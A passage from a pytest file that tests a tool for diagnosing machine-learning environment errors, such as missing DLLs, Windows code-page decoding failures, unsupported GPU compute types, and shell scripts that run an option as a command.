    '  File "/home/me/train.py", line 3, in <module>\n'
    "    import torch\n"
    '  File "/home/me/.local/lib/python3.10/site-packages/torch/_guards.py", line 79, in ShapeGuard\n'
    "    {code}\n"
    "NameError: name '{name}' is not defined\n"
)


@pytest.mark.parametrize(
    ("code", "name", "family", "word"),
    [
        ("expr: sympy.Expr", "sympy", "module-not-found", "Install sympy"),  # an optional import that failed
        ("x = np.asarray(y)", "np", "module-not-found", "numpy"),  # by the alias code gives it
        ("logger.warning(msg)", "logger", "api-version-skew", "torch"),  # a name, not a module: another release's
        ("return F.relu(x)", "F", "api-version-skew", "torch"),  # a submodule's alias: the file's own import
        ("return Unpack[T]", "Unpack", "api-version-skew", "torch"),
        ("return torch.utils._pytree.tree_map(f, x)", "torch", "api-version-skew", "torch"),  # its own: imported
    ],
)
def test_a_module_a_librarys_line_uses_but_never_defined_is_an_optional_import_that_failed(
    code: str, name: str, family: str, word: str
) -> None:
    diagnosis = _diagnose(_OPTIONAL_IMPORT.format(code=code, name=name))
    assert diagnosis is not None and diagnosis.family == family and word in diagnosis.cause, diagnosis


def test_a_dll_path_wrapped_onto_the_next_line_is_named_with_the_package_that_ships_it() -> None:
    log = (
        "OSError: [WinError 126] The specified module cannot be found. Error loading\n"
        '...stable\\automatic\\venv\\lib\\site-packages\\torch\\lib\\cudnn_cnn_infer64_8.dll" or\n'
        "one of its dependencies.\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "missing-library", diagnosis
    assert "cudnn_cnn_infer64_8.dll is one of torch's own files" in diagnosis.cause
    assert diagnosis.params["package"] == "torch"


@pytest.mark.parametrize(
    ("log", "guessed"),
    [
        ("ControlNetLoaderAdvanced\n'ControlNet' object has no attribute 'device'\n", True),
        ("'tensorrt.tensorrt.Builder' object has no attribute 'build_cuda_engine'\n", True),
        ("'NoneType' object has no attribute 'tokenize'\n", False),  # a value that did not load: no release
    ],
)
def test_a_missing_attribute_pasted_as_a_bare_line_is_a_guess_of_code_for_another_release(
    log: str, guessed: bool
) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None
    if guessed:
        assert diagnosis.decided_by == "structure:bare-missing-attribute" and not diagnosis.decided
        assert diagnosis.family == "api-version-skew" and diagnosis.verdict == "unknown"  # a guess blames no one
    else:
        assert diagnosis.decided_by != "structure:bare-missing-attribute"


def test_a_missing_attribute_with_its_exception_and_frames_is_left_to_the_rules() -> None:
    log = tb("AttributeError: 'ControlNet' object has no attribute 'device'", "comfy/controlnet")
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by != "structure:bare-missing-attribute"


@pytest.mark.parametrize(
    ("message", "word"),
    [
        ("Must flatten tensors with uniform dtype but got torch.float16 and torch.float32", "mixed_precision"),
        ("Must flatten tensors with uniform dtype but got torch.bfloat16 and torch.uint8", "bnb_4bit_quant_storage"),
        ("`FlatParameter` requires uniform dtype but got torch.float16 and torch.float32", "mixed_precision"),
        ("`FlatParameter` requires uniform `requires_grad`", "from torch 2.1 on"),  # torch 2.0's words and limit
    ],
)
def test_an_fsdp_unit_of_two_dtypes_or_frozen_and_trained_parameters_is_the_wrapping(message: str, word: str) -> None:
    diagnosis = _diagnose(tb(f"ValueError: {message}", "torch/distributed/fsdp/_flat_param"))
    assert diagnosis is not None and diagnosis.family == "user-code-error" and diagnosis.verdict == "not-environment"
    assert word in diagnosis.cause, diagnosis.cause


def test_torch_xlas_device_check_with_the_cpu_is_a_tensor_left_behind() -> None:
    log = tb(
        "RuntimeError: /pytorch/xla/torch_xla/csrc/aten_xla_bridge.cpp:276 : Check failed: device.type() == at::kXLA "
        "(cpu vs. xla)",
        "torch_xla/core",
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by == "user-code-error:tensor_left_on_the_cpu", diagnosis
    assert "a device argument) on the CPU" in diagnosis.cause and diagnosis.verdict == "not-environment"


def test_an_optional_import_names_the_distribution_to_install_and_none_where_the_platform_has_no_build() -> None:
    log = _OPTIONAL_IMPORT.format(code="expr: sympy.Expr", name="sympy")
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.params["package"] == "sympy" and diagnosis.params["caller"] == "torch"
    windows = (
        "Traceback (most recent call last):\n"
        '  File "C:\\Users\\u\\run.py", line 3, in <module>\n'
        "    main()\n"
        '  File "C:\\Users\\u\\venv\\Lib\\site-packages\\xformers\\ops\\fmha\\triton.py", line 120, in f\n'
        "    return triton.cdiv(n, 4)\n"
        "NameError: name 'triton' is not defined\n"
    )
    diagnosis = _diagnose(windows)
    assert diagnosis is not None and diagnosis.family == "module-not-found", diagnosis
    assert "Windows" in diagnosis.cause and not any("install triton" in r for r in diagnosis.remediation)


def test_torch_xlas_device_check_against_another_device_is_not_read_as_the_cpu() -> None:
    log = tb(
        "RuntimeError: aten_xla_bridge.cpp:276 : Check failed: device.type() == at::kXLA (cuda vs. xla)", "torch_xla"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "user-code-error:tensor_left_on_the_cpu", diagnosis


@pytest.mark.parametrize(
    "line",
    [
        "'list' object has no attribute 'shape'",  # Python's own types: a value of the wrong kind
        "'builtins.NoneType' object has no attribute 'to'",
        "'__main__.Net' object has no attribute 'fc3'",  # the script's own class
        "'Trainer' object has no attribute 'lr_schedular'. Did you mean: 'lr_scheduler'?",  # a typo, said so
    ],
)
def test_a_bare_missing_attribute_of_pythons_own_types_or_the_scripts_is_no_release_guess(line: str) -> None:
    diagnosis = _diagnose(line + "\n")
    assert diagnosis is None or diagnosis.decided_by != "structure:bare-missing-attribute", diagnosis


def test_a_dll_is_named_from_the_last_loading_before_it_and_its_folder_as_a_distribution() -> None:
    log = (
        "OSError: [WinError 126] The specified module could not be found while loading C:\\venv\\Lib\\site-packages"
        "\\xformers\\foo and Error loading\n"
        'C:\\Users\\me\\venv\\lib\\site-packages\\cv2\\opencv_videoio_ffmpeg.dll" or one of its dependencies.\n'
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.params["dll"].startswith("C:\\Users\\me"), diagnosis.params
    assert diagnosis.params["package"] == "opencv-python"
    nvidia = 'OSError: Error loading "C:\\venv\\Lib\\site-packages\\nvidia\\cudnn\\bin\\cudnn64_9.dll" or one of its dependencies.\n'
    diagnosis = _diagnose(nvidia)
    assert diagnosis is not None and "reinstall nvidia" not in diagnosis.cause


def test_a_dll_path_pasted_with_forward_slashes_is_named_by_its_file() -> None:
    log = 'OSError: [WinError 126] Error loading "C:/Users/me/venv/Lib/site-packages/torch/lib/c10.dll" or one of its dependencies.\n'
    diagnosis = _diagnose(log)
    assert diagnosis is not None and "Windows could not load c10.dll or" in diagnosis.cause, diagnosis.cause


@pytest.mark.parametrize(
    "line",
    ["Docker Desktop is not installed on your system", "RuntimeError: The model is not installed on this machine"],
)
def test_a_thing_not_installed_on_the_system_that_is_no_program_gets_no_pip_advice(line: str) -> None:
    diagnosis = _diagnose(line + "\n")
    assert diagnosis is None or diagnosis.decided_by != "module-not-found:requires_package", diagnosis.cause


def test_a_system_program_a_library_needs_is_a_missing_library_with_conda_s_own_package_name() -> None:
    diagnosis = _diagnose(tb("ImportError: 'nvcc' must be installed to build the kernels", "mylib"))
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("missing-library", "environment")
    assert "conda-forge cuda-nvcc" in diagnosis.cause and "pip install" not in diagnosis.cause


@pytest.mark.parametrize(
    ("log", "where"),
    [
        (
            "finetune/lora.sh: line 7: --model_id_or_path: command not found\n",
            "the line before line 7 of finetune/lora.sh",
        ),
        ("--learning_rate: command not found\n", "the line before it"),
        ("bash: line 3: --lr: command not found\n", "the line before it"),  # bash -c: the shell's name, no file
        ("-bash: line 2: --lr: command not found\n", "the line before it"),
        ("train.sh: 7: --lr: not found\n", "the line before line 7 of train.sh"),  # dash
        ("zsh: command not found: --lr\n", "the line before it"),
        ("'--model_name_or_path' is not recognized as an internal or external command,\n", "the line before it"),
        ("run.sh: line 4: $'--fp16\\r': command not found\n", "Windows line ends"),
        ("train.sh: line 5: --lr=1e-4: command not found\n", "the line before line 5 of train.sh"),
        ("train.sh: 7: --lr=1e-4: not found\n", "the line before line 7 of train.sh"),
        ("./train.sh:5: command not found: --lr\n", "the line before line 5 of ./train.sh"),
        ("/bin/sh: 1: --lr: not found\n", "the line before it"),  # the shell's own path: no script
        ("/bin/bash: line 1: --lr: command not found\n", "the line before it"),
        ("train.sh: line 5: --dist-url=tcp://127.0.0.1:23456: command not found\n", "--dist-url=tcp://127.0.0.1:23456"),
        ("run.sh: line 4: $'--lr=1e-4\\r': command not found\n", "Windows line ends"),
        ("C:\\Program Files\\Git\\usr\\bin\\bash.exe: line 1: --lr: command not found\n", "the line before it"),
    ],
)
def test_an_option_run_as_a_command_is_a_scripts_missing_backslash_not_a_missing_program(log: str, where: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("user-code-error", "not-environment")
    assert where in diagnosis.cause and "line" in diagnosis.cause, diagnosis.cause
    for command in diagnosis.next:
        _assert_pastes_safely(command)
        assert not command.startswith("grep") or " -- " in command  # a file named like an option is no grep option
    for program in (
        "train.sh: line 7: swift: command not found\n",
        "zsh: command not found: swift\n",
        "zsh:1: command not found: swift\n",
        "./train.sh:5: command not found: swift\n",
    ):
        missing = _diagnose(program)
        assert missing is not None and missing.family == "bad-configuration" and "swift" in missing.cause, missing


def test_a_compute_type_the_cpu_lacks_is_the_option_and_one_a_gpu_lacks_is_the_gpus_generation() -> None:
    message = "ValueError: Requested float16 compute type, but the target device or backend do not support efficient "
    message += "float16 computation."
    cpu = (
        TB
        + '  File "/home/u/run.py", line 8, in <module>\n    model = WhisperModel(path, device="cpu", compute_type="float16")\n'
    )
    on_cpu = _diagnose(cpu + message + "\n")
    assert on_cpu is not None and on_cpu.family == "bad-configuration", on_cpu
    assert '"int8"' in on_cpu.cause and "GPU" not in on_cpu.cause and "6.1" not in on_cpu.cause
    on_gpu = _diagnose(cpu.replace('"cpu"', '"cuda"') + message + "\n")
    assert on_gpu is not None and on_gpu.family == "gpu-arch-unsupported", on_gpu
    assert "7.0" in on_gpu.cause
    # a Mac runs CTranslate2 on its CPU: no CUDA there
    mac = cpu.replace("/home/u/", "/Users/u/").replace('device="cpu", ', "")
    on_a_mac = _diagnose(mac + message + "\n")
    assert on_a_mac is not None and on_a_mac.family == "bad-configuration", on_a_mac
    # each type's own floor, and never the refused type given back as the fix
    bf16 = _diagnose(cpu.replace('"cpu"', '"cuda"') + message.replace("float16", "bfloat16") + "\n")
    assert bf16 is not None and "from compute capability 8.0" in bf16.cause and '"float16" (7.0' in bf16.cause, bf16
    int8 = _diagnose(cpu.replace('"cpu"', '"cuda"') + message.replace("float16", "int8") + "\n")
    assert int8 is not None and '"int8"' not in int8.cause and "6.1" in int8.cause, int8
    # int8_float32 shares int8's refusal: only float32 is advised
    mixed = _diagnose(cpu.replace('"cpu"', '"cuda"') + message.replace("float16", "int8_float32") + "\n")
    assert mixed is not None and '"int8"' not in mixed.cause and '"float32"' in mixed.cause, mixed
    # no device in the log: a machine with no GPU runs on the CPU, which refuses the same types
    unseen = _diagnose(tb(message, "faster_whisper"))
    assert unseen is not None and "get_cuda_device_count" in unseen.cause, unseen
    chosen = _diagnose(cpu.replace('device="cpu"', 'device="cuda" if torch.cuda.is_available() else "cpu"') + message)
    assert chosen is not None and "get_cuda_device_count" in chosen.cause, chosen  # a condition names no device
    assert not any("get_cuda_device_count" in step for step in on_gpu.next), on_gpu.next  # cuda asked: no fallback


_CP1252 = "UnicodeDecodeError: 'charmap' codec can't decode byte 0x8f in position 189: character maps to <undefined>\n"
_ENCODINGS = (
    '  File "C:\\Python311\\Lib\\encodings\\cp1252.py", line 23, in decode\n'
    "    return codecs.charmap_decode(input,self.errors,decoding_table)[0]\n"
)


@pytest.mark.parametrize(
    ("frame", "family", "verdict", "word"),
    [
        ('  File "C:\\Users\\me\\app\\webui.py", line 686, in trim_logs\n    lines = f.readlines()\n',
         "user-code-error", "not-environment", "webui.py:686, in trim_logs"),
        ('  File "C:\\venv\\Lib\\site-packages\\somelib\\io.py", line 12, in load\n    text = f.read()\n',
         "framework-internal-error", "framework-bug", "somelib"),
        ("", "bad-configuration", "environment", "PYTHONUTF8"),
    ],
)  # fmt: skip
def test_utf8_text_read_in_a_windows_code_page_is_whoever_opened_it(
    frame: str, family: str, verdict: str, word: str
) -> None:
    log = (TB + frame + _ENCODINGS if frame else "") + _CP1252
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == (family, verdict), diagnosis
    said = " ".join([diagnosis.cause, *map(str, diagnosis.params.values()), *diagnosis.remediation])
    assert word in said and "encoding" in said, said


def test_a_character_a_windows_console_cannot_print_is_its_code_page_and_utf8_elsewhere_is_no_code_page() -> None:
    printed = _diagnose(
        "UnicodeEncodeError: 'charmap' codec can't encode character '\\u2705' in position 0: character maps to <undefined>\n"
    )
    assert printed is not None and printed.family == "bad-configuration" and "PYTHONIOENCODING" in printed.cause
    utf8 = _diagnose(
        TB + "UnicodeDecodeError: 'utf-8' codec can't decode byte 0xd3 in position 0: invalid continuation byte\n"
    )
    assert utf8 is None or utf8.decided_by != "bad-configuration:text_in_the_locales_encoding", utf8


def test_a_windows_path_longer_than_max_path_is_the_limit_and_a_short_missing_one_is_not() -> None:
    deep = "C:\\\\Users\\\\me\\\\.cache\\\\torch\\\\hub\\\\checkpoints\\\\" + "y4mKOuRSNGQQlp6wm" * 14
    long = _diagnose(TB + f"FileNotFoundError: [Errno 2] No such file or directory: '{deep}'\n")
    assert long is not None and long.family == "disk-or-permission" and "LongPathsEnabled" in long.params.values()
    short = _diagnose(TB + "FileNotFoundError: [Errno 2] No such file or directory: 'C:\\\\data\\\\x.csv'\n")
    assert short is None or short.decided_by != "disk-or-permission:windows_long_paths", short
    too_long = _diagnose("OSError: [WinError 206] The filename or extension is too long: 'C:\\\\x'\n")
    assert too_long is not None and too_long.decided_by == "disk-or-permission:windows_long_paths", too_long


def test_a_symbol_macos_own_runtime_lacks_is_a_macos_older_than_the_build_and_another_librarys_is_not() -> None:
    log = (
        "ImportError: dlopen(/Library/Frameworks/Python.framework/Versions/3.10/lib/python3.10/site-packages/torch/"
        "_C.cpython-310-darwin.so, 2): Symbol not found: __ZNSt19bad_optional_accessD1Ev\n"
        "  Referenced from: /Library/Frameworks/Python.framework/Versions/3.10/lib/python3.10/site-packages/torch/lib/"
        "libc10.dylib (which was built for Mac OS X 10.13)\n  Expected in: /usr/lib/libc++.1.dylib\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "glibc-version", diagnosis
    assert "Mac OS X 10.13" in diagnosis.cause and "libc++.1.dylib" in diagnosis.cause
    other = _diagnose(
        log.replace("/usr/lib/libc++.1.dylib", "/opt/venv/lib/python3.10/site-packages/torch/lib/libtorch.dylib")
    )
    assert other is not None and other.family == "undefined-symbol", other


def test_condas_nothing_provides_is_read_whole_with_the_build_that_needs_it() -> None:
    log = (
        "LibMambaUnsatisfiableError: Encountered problems while solving:\n"
        "  - nothing provides blas * mkl needed by pytorch-1.11.0.arm64-py_3.8_0\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "resolver-conflict", diagnosis
    assert "blas * mkl needed by pytorch-1.11.0.arm64-py_3.8_0" in diagnosis.cause, diagnosis.cause


def test_a_utf8_decode_error_is_msvcs_language_only_where_torchs_cxx_builder_read_it() -> None:
    message = "UnicodeDecodeError: 'utf-8' codec can't decode byte 0xd3 in position 0: invalid continuation byte\n"
    builder = '  File "C:\\\\venv\\\\Lib\\\\site-packages\\\\torch\\\\_inductor\\\\cpp_builder.py", line 431, in _is_msvc_cl\n'
    diagnosis = _diagnose(TB + builder + message)
    assert diagnosis is not None and diagnosis.decided_by == "bad-configuration:compiler_speaks_another_language"
    data = _diagnose(TB + '  File "/home/me/load.py", line 3, in read\n    text = f.read()\n' + message)
    assert data is None or data.decided_by != "bad-configuration:compiler_speaks_another_language", data


def test_a_file_the_user_opened_and_a_library_read_is_the_users_and_an_encoding_asked_for_is_no_locales() -> None:
    user = r'  File "C:\Users\me\app\cfg.py", line 9, in load' + "\n    cfg = yaml.safe_load(f)\n"
    reader = r'  File "C:\venv\Lib\site-packages\yaml\reader.py", line 178, in update_raw' + "\n"
    handed = _diagnose(TB + user + reader + "    data = self.stream.read(size)\n" + _ENCODINGS + _CP1252)
    assert handed is not None and handed.family == "user-code-error" and "cfg.py:9" in handed.cause, handed
    asked = TB + '  File "/home/me/read.py", line 3, in <module>\n    text = open(path, encoding="gbk").read()\n'
    own = _diagnose(asked + "UnicodeDecodeError: 'gbk' codec can't decode byte 0xaf in position 12: illegal\n")
    assert own is not None and own.family == "user-code-error" and "without encoding" not in own.cause, own
    assert "own encoding" in own.cause


def test_a_script_named_like_setup_py_is_no_packages_build_and_a_linux_locale_gets_export() -> None:
    mine = TB + '  File "/home/me/my_setup.py", line 4, in <module>\n    text = f.read()\n'
    log = mine + "UnicodeDecodeError: 'gbk' codec can't decode byte 0xaf in position 12: illegal multibyte sequence\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and "pip built it" not in diagnosis.cause, diagnosis
    # gbk is cp936's name: Windows' unless the log shows a POSIX system
    bare = _diagnose("UnicodeDecodeError: 'gbk' codec can't decode byte 0xaf in position 12: illegal multibyte\n")
    assert bare is not None and any("$env:PYTHONUTF8" in step for step in bare.remediation), bare
    library = '  File "/venv/lib/python3.11/site-packages/somelib/io.py", line 12, in load\n    text = f.read()\n'
    posix = _diagnose(TB + library + log.splitlines()[-1] + "\n")
    assert posix is not None and any(step.startswith("export PYTHONUTF8=") for step in posix.remediation), posix
    windows = _diagnose(_CP1252)
    assert windows is not None and any("$env:PYTHONUTF8" in step for step in windows.remediation), windows


def test_a_script_with_windows_line_ends_is_read_from_the_cr_bash_shows() -> None:
    for log in ("run.sh: line 2: $'\\r': command not found\n", "run.sh: line 3: $'python\\r': command not found\n"):
        diagnosis = _diagnose(log)
        assert diagnosis is not None and diagnosis.family == "user-code-error" and "dos2unix" in diagnosis.cause


def test_the_continuation_an_option_run_as_a_command_asks_for_is_its_shells() -> None:
    cmd = _diagnose("'--model_name_or_path' is not recognized as an internal or external command,\n")
    assert cmd is not None and "`^`" in cmd.cause, cmd
    bash = _diagnose("train.sh: line 5: --lr: command not found\n")
    assert bash is not None and "`\\`" in bash.cause and "`^`" not in bash.cause, bash


def test_a_failed_cuinit_that_xla_diagnoses_on_the_next_line_is_read_as_the_diagnosis() -> None:
    cuinit = (
        "E external/xla/xla/stream_executor/cuda/cuda_driver.cc:152] failed call to cuInit: INTERNAL: CUDA error: "
        "Failed call to cuInit: CUDA_ERROR_UNKNOWN: unknown error\n"
    )
    diagnosis = "E external/xla/xla/stream_executor/cuda/cuda_diagnostics.cc:262] kernel version {} does not match DSO "
    diagnosis += "version {} -- cannot find working devices in this configuration\n"
    newer = _diagnose(cuinit + diagnosis.format("535.183.6", "560.28.3"))
    assert newer is not None and newer.decided_by == "cuda-driver-too-old:driver_and_libcuda_differ", newer
    assert "newer than the host" in newer.cause
    older = _diagnose(cuinit + diagnosis.format("560.28.3", "535.183.6"))
    assert older is not None and "older than the host" in older.cause, older
    alone = _diagnose(cuinit)
    assert alone is not None and alone.decided_by == "accelerator-unavailable:cuinit_failed", alone


@pytest.mark.parametrize(
    ("code", "message"),
    [
        (
            'open(path, encoding="cp1252").read()',
            "UnicodeDecodeError: 'charmap' codec can't decode byte 0x9d in position 3",
        ),
        ('open(path, encoding="cp936").read()', "UnicodeDecodeError: 'gbk' codec can't decode byte 0xaf in position 3"),
        ('open(p, "w", encoding="gbk").write(s)', "UnicodeEncodeError: 'gbk' codec can't encode character '\\u2705'"),
    ],
)
def test_an_encoding_the_code_names_under_any_of_its_names_is_the_codes_not_the_locales(
    code: str, message: str
) -> None:
    log = TB + f'  File "C:\\app\\read.py", line 3, in <module>\n    {code}\n' + message + "\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "user-code-error", diagnosis
    assert "without encoding" not in diagnosis.cause and "UTF-8 mode" not in diagnosis.cause, diagnosis.cause


def test_a_compiled_modules_frame_is_none_of_the_users_when_the_file_is_named() -> None:
    # pandas' parsers.pyx shows no folder: it is the library's reading of the file the user's call named
    user = r'  File "C:\app\run.py", line 3, in <module>' + "\n    df = pd.read_csv(path)\n"
    pyx = '  File "parsers.pyx", line 2061, in pandas._libs.parsers.raise_parser_error\n'
    diagnosis = _diagnose(TB + user + pyx + _CP1252)
    assert diagnosis is not None and "parsers.pyx" not in diagnosis.cause, diagnosis


def test_a_device_listing_longer_than_a_records_context_is_read_to_its_end() -> None:
    cpu = (
        '[name: "/device:CPU:0"\ndevice_type: "CPU"\nmemory_limit: 268435456\nlocality {\n  bus_id: 1\n  links {\n  }\n}\n'
        "incarnation: 1234\nxla_global_id: -1\n"
    )
    only_cpu = _diagnose(cpu + "]\n")
    assert only_cpu is not None and only_cpu.decided_by == "accelerator-unavailable:asked_and_no_gpu", only_cpu
    gpu = ', name: "/device:GPU:0"\ndevice_type: "GPU"\nmemory_limit: 14626652160\nlocality {\n  bus_id: 1\n}\n'
    with_gpu = cpu + gpu + "incarnation: 5678\nxla_global_id: 416903419\n]\n"
    listed = _diagnose(with_gpu)
    assert listed is None or listed.decided_by != "accelerator-unavailable:asked_and_no_gpu", listed
    # an error after the listing, closed or not, is a record of its own
    after = _diagnose(with_gpu + "ValueError: x must be provided\n")
    assert after is not None and after.family == "user-code-error", after
    unclosed = _diagnose(cpu + "Epoch 1 loss 0.3\nEpoch 2 loss 0.2\nValueError: x must be provided\n")
    assert unclosed is not None and unclosed.family == "user-code-error", unclosed


def test_a_shell_functions_noise_is_no_missing_program_and_the_failure_after_it_decides() -> None:
    log = "bash: __vsc_prompt_cmd_original: command not found\nstep 1\nstep 2\n"
    log += "RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "out-of-memory", diagnosis


@pytest.mark.parametrize(
    ("log", "family"),
    [
        ("Unhandled exception at 0x00007FFB1C2E4E5A (torch_cpu.dll) in python.exe: 0xC0000005: Access violation "
         "reading location 0x0000000000000000.\n", "framework-internal-error"),
        ("The application was unable to start correctly (0xc0000142). Click OK to close the application.\n",
         "missing-library"),
        ("Exception Code: 0xC0000005\n", "framework-internal-error"),
        ("ExitCode: 0xC0000409\n", "framework-internal-error"),
    ],
)  # fmt: skip
def test_windows_dialogs_and_error_reports_name_their_exception(log: str, family: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == family, diagnosis


def test_ctranslate2_advice_for_a_mixed_int8_type_and_a_device_chosen_by_a_condition() -> None:
    message = "ValueError: Requested int8_float16 compute type, but the target device or backend do not support "
    message += "efficient int8_float16 computation.\n"
    call = TB + '  File "/home/u/run.py", line 8, in <module>\n    model = WhisperModel(path, device={})\n'
    mixed = _diagnose(call.format('"cuda"') + message)
    assert mixed is not None and '"int8_float32"' in mixed.cause, mixed
    chosen = _diagnose(call.format('"cpu" if args.cpu else "cuda"') + message)
    assert chosen is not None and chosen.family == "gpu-arch-unsupported", chosen


@pytest.mark.parametrize(
    ("log", "family", "word"),
    [
        # a folder without the loader's first file: the user's path, named with the file it lacks
        (
            tb(
                "OSError: Error no file named diffusion_pytorch_model.safetensors found in directory ../checkpoints/unet.",
                "diffusers/models/modeling_utils",
            ),
            "user-code-error",
            "../checkpoints/unet, has no diffusion_pytorch_model.safetensors,",
        ),
        # a path that is no folder here reached the Hub's id check
        (
            tb(
                "huggingface_hub.errors.HFValidationError: Repo id must be in the form 'repo_name' or 'namespace/repo_name': '/models/opt-1.3b'. Use `repo_type` argument if needed.",
                "huggingface_hub/utils/_validators",
            ),
            "user-code-error",
            "/models/opt-1.3b, which is no folder",
        ),
        (
            tb(
                "OSError: Incorrect path_or_model_id: 'C:\\AI\\models\\llama'. Please provide either the path to a local folder or the repo_id of a model on the Hub.",
                "transformers/utils/hub",
            ),
            "user-code-error",
            "C:\\AI\\models\\llama",
        ),
        (
            tb(
                "OSError: ./weights/bert is not a local folder and is not a valid model identifier listed on 'https://huggingface.co/models'",
                "transformers/utils/hub",
            ),
            "user-code-error",
            "'./weights/bert', which is no folder",
        ),
    ],
)
def test_a_model_path_that_is_not_the_models_folder_is_the_users(log: str, family: str, word: str) -> None:
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.family == family, diagnosis
    assert diagnosis.verdict == "not-environment"
    assert word in diagnosis.cause, diagnosis.cause


@pytest.mark.parametrize(
    "log",
    [
        # a Hub repository without the file: the Hub's or the library's matter, never the user's path
        tb(
            "OSError: runwayml/stable-diffusion-v1-5 does not appear to have a file named config.json.",
            "diffusers/loaders/single_file_utils",
        ),
        # a name no folder and no repository holds, of a Hub id's form: mistyped id, private or gated repository
        tb(
            "OSError: meta-llama/Llama-2-7b-hf is not a local folder and is not a valid model identifier listed on 'https://huggingface.co/models'",
            "transformers/utils/hub",
        ),
    ],
)
def test_a_hub_ids_missing_file_or_repository_is_not_called_the_users_path(log: str) -> None:
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is None or diagnosis.decided_by != "user-code-error:model_folder_not_found"
    assert diagnosis is None or diagnosis.family != "user-code-error", diagnosis


@pytest.mark.parametrize(
    ("log", "family"),
    [
        # Inductor's warning, as torch/_inductor/compile_fx.py prints it
        (
            "/venv/lib/python3.10/site-packages/torch/_inductor/compile_fx.py:1948: UserWarning: NVIDIA GeForce RTX 2060 does not support bfloat16 compilation natively, skipping\n",
            "gpu-arch-unsupported",
        ),
        # an application's own check, with its advice on the next line
        (
            "ERROR - AssertionError: bf16 is not supported on your device\nYour device does not support `torch.bfloat16`. Try edit `torch_dtype` in `config.json`.\n",
            "gpu-arch-unsupported",
        ),
        # the same words on a Mac: MPS's bf16 depends on macOS, not on a GPU generation
        ("AssertionError: bf16 is not supported on your device (mps)\n", "unsupported-op"),
    ],
)
def test_a_gpu_without_bfloat16_is_its_generation_and_a_macs_is_not(log: str, family: str) -> None:
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.family == family, diagnosis


@pytest.mark.parametrize(
    ("log", "cpu_only"),
    [
        # xformers' own report, its pair on the line after: a CPU-only torch under a CUDA build of xformers
        (
            "WARNING[XFORMERS]: xFormers can't load C++/CUDA extensions. xFormers was built for:\n    PyTorch 1.13.1+cu117 with CUDA 1107 (you have 2.1.2+cpu)\n    Python  3.10.9 (you have 3.10.11)\n",
            True,
        ),
        # both GPU builds, of other releases: the package's build is the matter
        (
            "WARNING[XFORMERS]: xFormers can't load C++/CUDA extensions. xFormers was built for:\n    PyTorch 2.1.0+cu121 with CUDA 1201 (you have 2.3.1+cu121)\n    Python  3.10.11 (you have 3.10.11)\n",
            False,
        ),
    ],
)
def test_a_cpu_only_torch_under_a_gpu_build_is_named_before_the_builds_pair(log: str, cpu_only: bool) -> None:
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.family == "version-mismatch", diagnosis
    said = "CPU-only build (2.1.2+cpu), while xformers was built for torch 1.13.1+cu117"
    assert (said in diagnosis.cause) == cpu_only, diagnosis.cause


@pytest.mark.parametrize(
    ("innermost", "named"),
    [
        # an extension's own frame: its build lacks this GPU's code
        (
            '  File "/opt/venv/lib/python3.10/site-packages/flash_attn/flash_attn_interface.py", line 90, in _fwd\n    out = flash_attn_cuda.fwd(q, k, v)\n',
            "flash-attn",
        ),
        # torch's own op: the verdict speaks of torch's build already, and names no other package
        (
            '  File "/opt/venv/lib/python3.10/site-packages/torch/nn/functional.py", line 2233, in linear\n    return torch._C._nn.linear(input, weight, bias)\n',
            "",
        ),
        # the user's call into a package that builds kernels of its own, past the names before it
        (
            '  File "/home/me/infer.py", line 22, in run\n    y = self.proj(xformers.ops.memory_efficient_attention(q, k, v))\n',
            "xformers",
        ),
        # a pure-Python library's frame is Python calling torch's ops: torch's build, no other package named
        (
            '  File "/opt/venv/lib/python3.10/site-packages/transformers/models/llama/modeling_llama.py", line 89, in forward\n    variance = hidden_states.pow(2).mean(-1, keepdim=True)\n',
            "",
        ),
        ('  File "/home/me/infer.py", line 22, in run\n    y = einops.rearrange(x, "b c h w -> b (h w) c")\n', ""),
    ],
)
def test_a_kernel_without_code_for_the_gpu_names_the_extension_whose_kernel_it_was(innermost: str, named: str) -> None:
    log = TB + innermost + "RuntimeError: CUDA error: no kernel image is available for execution on the device\n"
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.family == "gpu-arch-unsupported", diagnosis
    assert diagnosis.params.get("package", "") == named, diagnosis.params
    assert ("The kernel is" in diagnosis.cause) == bool(named), diagnosis.cause


@pytest.mark.parametrize(
    ("log", "word"),
    [
        # CMake with no nvcc for a project that enables CUDA: the toolkit, and CMake's own variable for it
        (
            "      CMake Error at vendor/llama.cpp/ggml/src/ggml-cuda/CMakeLists.txt:25 (enable_language):\n        No CMAKE_CUDA_COMPILER could be found.\n",
            "CUDACXX",
        ),
        # CMake with no C++ compiler on Windows: the Build Tools, never apt
        (
            "      -- Building for: NMake Makefiles\n      CMake Error: CMAKE_CXX_COMPILER not set, after EnableLanguage\n      error: [WinError 2] C:\\Users\\me\\AppData\\Local\\Temp\\pip-build\n",
            "C++ Build Tools",
        ),
        # dlib's own words: CMake is the tool to install, for the package that said it
        (
